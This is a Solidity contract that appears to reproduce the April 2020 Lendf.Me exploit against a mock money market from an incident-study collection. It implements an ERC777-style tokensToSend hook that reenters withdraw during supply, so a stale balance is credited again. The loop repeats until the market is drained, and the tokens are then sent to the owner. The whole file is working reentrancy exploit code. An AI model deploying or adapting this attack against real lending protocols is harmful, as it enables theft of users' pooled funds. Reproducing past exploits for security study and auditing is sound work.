// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {HookToken777, HookTokenSender, HookTokenMoneyMarket} from "../incidents/HookTokenMoneyMarket.sol";

/// @title HookTokenAttacker
/// @notice Lendf.Me (Apr 2020): supply with a tokensToSend hook that
/// withdraws the whole credited balance, so the stale balance is credited
/// again; repeat until the market is drained.
contract HookTokenAttacker is HookTokenSender {
    address public immutable owner;
    HookToken777 public immutable token;
    HookTokenMoneyMarket public immutable market;
    bool private reenter;

    error NotOwner();

    constructor(HookToken777 token_, HookTokenMoneyMarket market_) {
        owner = msg.sender;
        token = token_;
        market = market_;
    }

    /// @notice Runs up to `rounds` supply-with-reentry rounds of `chunk`.
    function attack(uint256 chunk, uint256 rounds) external {
        if (msg.sender != owner) revert NotOwner();
        token.setInterfaceImplementer(address(this));
        token.approve(address(market), type(uint256).max);
        market.supply(chunk);
        for (uint256 i = 0; i < rounds; i++) {
            uint256 credited = market.supplyBalance(address(this));
            if (token.balanceOf(address(market)) < credited + chunk) break;
            reenter = true;
            market.supply(chunk);
        }
        uint256 cash = token.balanceOf(address(market));
        uint256 mine = market.supplyBalance(address(this));
        market.withdraw(mine < cash ? mine : cash);
        token.setInterfaceImplementer(address(0));
        token.transfer(owner, token.balanceOf(address(this)));
    }

    /// @inheritdoc HookTokenSender
    function tokensToSend(address, address from, address, uint256) external {
        if (msg.sender != address(token) || from != address(this) || !reenter) return;
        reenter = false;
        market.withdraw(market.supplyBalance(address(this)));
    }
}
